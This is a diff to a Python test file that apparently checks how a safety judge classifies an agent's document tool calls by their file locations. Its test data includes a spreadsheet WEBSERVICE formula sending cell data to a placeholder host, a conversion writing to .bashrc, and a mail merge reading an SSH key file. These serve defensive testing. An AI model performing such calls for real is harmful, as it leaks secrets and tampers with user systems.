@@ -62,6 +62,9 @@ def judge(tmp_path: Path) -> Judge:
         ("make_document", {"target": "b.ods", "sheets": {"A": [["=SUM(A1:A2)"]]}}, CREATE),
         ("make_document", {"target": "b.ods", "sheets": {"A": [['=WEBSERVICE("http://x/"&A1)']]}}, ActionClass.SEND),
         ("convert_document", {"source": "a.odt", "target": ".bashrc"}, SYSTEM),
+        ("merge_letters", {"source": "a.odt", "data": "a.csv", "target": "to {Name}.odt"}, CREATE),
+        ("merge_letters", {"source": "a.odt", "data": "~/.ssh/id", "target": "to {n}.odt"}, SYSTEM),
+        ("merge_letters", {"source": "a.odt", "data": "a.csv", "target": "link/{n}.odt"}, OUTSIDE),
     ],
 )
 async def test_a_call_is_judged_by_where_its_files_really_lie(
